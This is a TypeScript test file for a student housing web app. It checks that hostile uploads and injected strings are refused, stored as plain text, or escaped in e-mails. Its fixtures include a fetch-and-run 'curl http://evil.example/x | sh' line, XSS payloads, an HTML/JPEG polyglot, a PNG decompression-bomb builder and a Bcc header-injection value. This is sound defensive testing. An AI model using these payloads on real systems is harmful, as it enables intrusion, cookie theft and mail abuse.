/**
 * Hostile input, by hand (issue 12, item 3): upload attacks are refused with a clear message and
 * leave no posting row and no stored file; injection strings in every free-text field come back
 * from the API as the very text sent, and reach e-mails escaped in the HTML part without splitting
 * any header.
 */
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import type { Email } from 'postal-mime';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { posting, postingImage, studentUsage, user } from '../../src/server/db/schema';
import { messages } from '../../src/shared/messages';
import { postingValidation } from '../../src/shared/posting-validation-messages';
import type { PostingDetail } from '../../src/shared/schemas/posting-view';
import { createTestApp, type TestApp } from '../support/app';
import { INJECTIONS } from '../support/hostile';
import { startSmtpServer, type TestSmtpServer } from '../support/smtp';
import { createMember, originHeader, type TestMember } from '../support/users';
import {
  type FilePart,
  jpeg,
  jpegFile,
  offCampusPosting,
  onCampusPosting,
  sendPosting,
  storedFiles,
} from './postings-support';

let t: TestApp;
let smtp: TestSmtpServer;
let admin: TestMember;

beforeAll(async () => {
  smtp = await startSmtpServer();
  t = await createTestApp({ SMTP_URL: smtp.url }, undefined, { backgroundJobs: false });
  admin = await createMember(t);
});
afterAll(async () => {
  await t?.close();
  await smtp?.stop();
});

/** Folders of uploads in progress under DATA_DIR/tmp. */
const temporaryUploads = () => {
  const root = path.join(t.config.dataDir, 'tmp');
  return existsSync(root) ? readdirSync(root) : [];
};

const rowCounts = async () => ({
  postings: (await t.database.db.select({ id: posting.id }).from(posting)).length,
  images: (await t.database.db.select({ id: postingImage.id }).from(postingImage)).length,
});

/** A PNG whose header declares width x height, with a few bytes of pixel data (a decompression bomb). */
function pngDeclaring(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    // Rows of zeros compress to almost nothing: the real bomb would inflate to 7.5 GB.
    chunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('upload attacks: refused with a clear message, no row, no file', () => {
  async function expectRefused(files: FilePart[], detail: string) {
    const before = await rowCounts();
    const response = await sendPosting(t, { cookie: admin.cookie, posting: onCampusPosting(), files });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.title).toBe(messages.submit.failedTitle);
    expect(response.json().error.details).toContain(detail);
    expect(await rowCounts()).toEqual(before);
    expect(storedFiles(t)).toEqual([]);
    // The upload's temporary files (decision 0022) are gone too.
    expect(temporaryUploads()).toEqual([]);
  }

  it('a script renamed .jpg', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(1)</script>\n');
    await expectRefused(
      [{ name: 'holiday.jpg', type: 'image/jpeg', buffer: script }],
      messages.images.notJpegOrPng('holiday.jpg'),
    );
  });

  it('an HTML/JPEG polyglot (HTML first, a real JPEG after it)', async () => {
    const polyglot = Buffer.concat([
      Buffer.from('<html><body><script>alert(document.cookie)</script>'),
      await jpeg(60, 40),
    ]);
    await expectRefused(
      [{ name: 'poly.jpg', type: 'image/jpeg', buffer: polyglot }],
      messages.images.notJpegOrPng('poly.jpg'),
    );
  });

  it('a decompression bomb: a tiny PNG declaring 50000 x 50000 pixels', async () => {
    const bomb = pngDeclaring(50_000, 50_000);
    expect(bomb.length).toBeLessThan(10_000);
    await expectRefused(
      [{ name: 'bomb.png', type: 'image/png', buffer: bomb }],
      messages.images.tooManyPixels('bomb.png', 40),
    );
  });

  it('a 30 MB file', async () => {
    const big = Buffer.concat([await jpeg(60, 40), Buffer.alloc(30 * 1024 * 1024, 1)]);
    await expectRefused(
      [{ name: 'huge.jpg', type: 'image/jpeg', buffer: big }],
      messages.images.tooLarge('huge.jpg', 10),
    );
  });

  it('a truncated JPEG (its header reads, its pixels do not)', async () => {
    const whole = await jpeg(800, 600);
    await expectRefused(
      [{ name: 'cut.jpg', type: 'image/jpeg', buffer: whole.subarray(0, Math.floor(whole.length / 2)) }],
      messages.images.notJpegOrPng('cut.jpg'),
    );
  });

  it('11 files', async () => {
    const files = await Promise.all(Array.from({ length: 11 }, (_, i) => jpegFile(`room-${i + 1}.jpg`, 40, 30)));
    await expectRefused(files, messages.images.tooMany(10));
  });

  it('a JPEG with HTML after its end is stored only as re-encoded WebP, without the HTML', async () => {
    const trailing = Buffer.concat([await jpeg(60, 40), Buffer.from('<html><script>alert(1)</script></html>')]);
    const response = await sendPosting(t, {
      cookie: admin.cookie,
      posting: onCampusPosting(),
      files: [{ name: 'trail.jpg', type: 'image/jpeg', buffer: trailing }],
    });
    expect(response.statusCode).toBe(201);
    const detail = response.json() as PostingDetail;
    for (const url of [detail.images[0]?.cardUrl, detail.images[0]?.fullUrl]) {
      const image = await t.app.inject({ method: 'GET', url: url as string, headers: { cookie: admin.cookie } });
      expect(image.headers['content-type']).toBe('image/webp');
      expect(image.headers['x-content-type-options']).toBe('nosniff');
      expect(image.rawPayload.subarray(0, 4).toString('ascii')).toBe('RIFF');
      expect(image.rawPayload.includes(Buffer.from('<script'))).toBe(false);
    }
  });
});

/** Injection strings that survive the fields' own rules (trimming; U+0000 is refused, tested below). */
// A lone surrogate cannot travel as UTF-8 at all (it arrives as U+FFFD), so it is left out here.
const storable = INJECTIONS.filter((s) => !s.includes('\u0000') && s !== '\ud800');
const texts = storable.filter((s) => s.trim() === s && s.trim().length > 0);

describe('injection strings come back as text', () => {
  it('refuses U+0000 (PostgreSQL cannot store it) with a 400 in a posting, a ping and a contact message, storing nothing', async () => {
    const before = await rowCounts();
    const withNul = await sendPosting(t, {
      cookie: admin.cookie,
      posting: onCampusPosting({ description: 'a\u0000b' }),
    });
    expect(withNul.statusCode).toBe(400);
    expect(withNul.json().error.message).toBe(postingValidation.unreadable);
    expect(await rowCounts()).toEqual(before);
    const member = await createMember(t);
    const ping = await t.app.inject({
      method: 'POST',
      url: `/api/postings/${(await sendPosting(t, { cookie: admin.cookie, posting: onCampusPosting() })).json().id}/pings`,
      headers: { ...originHeader(t), cookie: member.cookie },
      payload: { message: 'hi\u0000there' },
    });
    expect(ping.statusCode).toBe(400);
    expect(ping.json().error).toMatchObject({ code: 'NUL_CHARACTER', message: messages.api.badRequest.message });
    const contact = await t.app.inject({
      method: 'POST',
      url: '/api/contact',
      headers: { ...originHeader(t), cookie: member.cookie },
      payload: { name: 'Eve', email: 'eve@bc.edu', message: 'a\u0000b' },
    });
    expect(contact.statusCode).toBe(400);
    const signUp = await t.app.inject({
      method: 'POST',
      url: '/api/auth/sign-up/email',
      headers: { ...originHeader(t), 'content-type': 'application/json' },
      payload: JSON.stringify({
        email: 'nul.student@bc.edu',
        name: 'Nul\u0000Name',
        password: 'correct-horse-battery',
      }),
    });
    expect(signUp.statusCode).toBe(400);
  });

  it('in every free-text field of a posting, through create and read', async () => {
    for (const [i, text] of texts.entries()) {
      const sent = offCampusPosting({
        address: `${text} ${i}`,
        adminGender: 'other',
        adminCustomGender: text.slice(0, 50),
        description: `${text}\n${text}`,
        members: [
          { name: 'x', academicYear: 'junior', gender: 'female', customGender: '', email: '', instagramHandle: '' },
          {
            name: text,
            academicYear: 'senior',
            gender: 'other',
            customGender: text.slice(0, 50),
            email: '',
            instagramHandle: '',
          },
        ],
      });
      // More postings than one student may create in a day (decision 0022; the limit has tests of its own).
      await t.database.db.delete(studentUsage).where(eq(studentUsage.userId, admin.id));
      const response = await sendPosting(t, { cookie: admin.cookie, posting: sent });
      expect(response.statusCode, `${JSON.stringify(text)}: ${response.body}`).toBe(201);
      const read = await t.app.inject({
        method: 'GET',
        url: `/api/postings/${response.json().id}`,
        headers: { cookie: admin.cookie },
      });
      const detail = read.json() as PostingDetail;
      expect(detail.address).toBe(sent.address);
      expect(detail.adminContact.customGender).toBe(sent.adminCustomGender);
      // The description keeps its lines; line endings are stored as \n (CRLF and CR become LF).
      expect(detail.description).toBe(sent.description.replace(/\r\n?/g, '\n'));
      // The admin reads what they typed (a member who has not joined shows no gender to others).
      expect(detail.members[1]).toMatchObject({ name: text, joined: false });
      expect(detail.members[1]?.typed).toMatchObject({ name: text, customGender: text.slice(0, 50) });
    }
  });

  it('in a ping message and a sender name: unchanged in the API, escaped in the e-mail, no header split', async () => {
    // Names with line breaks are refused since issue 22; an account named before that rule keeps
    // its name, and the e-mail must still hold against it.
    const sender = await createMember(t);
    await t.database.db.update(user).set({ name: 'Eve\r\nBcc: victim@example.com' }).where(eq(user.id, sender.id));
    const pingAdmin = await createMember(t);
    const message = storable.join(' | ');
    const created = await sendPosting(t, { cookie: pingAdmin.cookie, posting: onCampusPosting() });
    const postingId = created.json().id as string;
    const sent = await t.app.inject({
      method: 'POST',
      url: `/api/postings/${postingId}/pings`,
      headers: { ...originHeader(t), cookie: sender.cookie },
      payload: { message },
    });
    expect(sent.statusCode).toBe(201);
    const inbox = await t.app.inject({
      method: 'GET',
      url: '/api/pings/received',
      headers: { cookie: pingAdmin.cookie },
    });
    expect(inbox.json().items[0]).toMatchObject({
      message: message.trim(),
      senderName: 'Eve\r\nBcc: victim@example.com',
    });

    const mail = await deliveredTo(pingAdmin.email, /is interested in your group/);
    expectSafeMail(mail, ['<script>window.__pwned = 1</script>', '"><img src=x onerror="window.__pwned=1">']);
  });

  it('in a contact message: stored as sent, escaped in the e-mail, no header split', async () => {
    const member = await createMember(t);
    const message = storable.join(' | ');
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/contact',
      headers: { ...originHeader(t), cookie: member.cookie },
      payload: { name: 'Eve\r\nBcc: victim@example.com', email: 'eve@bc.edu', message },
    });
    expect(response.statusCode).toBe(202);
    const mail = await deliveredTo(t.config.contactTo, /contact form/);
    expectSafeMail(mail, ['<script>window.__pwned = 1</script>', '"><img src=x onerror="window.__pwned=1">']);
  });
});

/** The latest e-mail to `address` whose subject matches (their sign-up mail may go in either order). */
async function deliveredTo(address: string, subject: RegExp): Promise<Email> {
  await t.app.outbox.deliverDue();
  const found = smtp.messages.filter(
    (m) =>
      (m.to ?? []).some((a) => a.address?.toLowerCase() === address.toLowerCase()) && subject.test(m.subject ?? ''),
  );
  const last = found.at(-1);
  if (!last) throw new Error(`no e-mail to ${address}`);
  return last;
}

/** The HTML part shows the strings as text (escaped); no header carries a forged line; nobody else is written to. */
function expectSafeMail(mail: Email, markup: string[]) {
  for (const raw of markup) {
    expect(mail.html ?? '').not.toContain(raw);
    expect(mail.html ?? '').toContain(
      raw.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
    );
    expect(mail.text ?? '').toContain(raw);
  }
  expect(mail.bcc ?? []).toEqual([]);
  expect(mail.headers.map((h) => h.key)).not.toContain('bcc');
  for (const header of mail.headers) expect(header.value).not.toMatch(/[\r\n]/);
  expect(smtp.messages.some((m) => JSON.stringify(m.to).includes('victim@example.com'))).toBe(false);
}
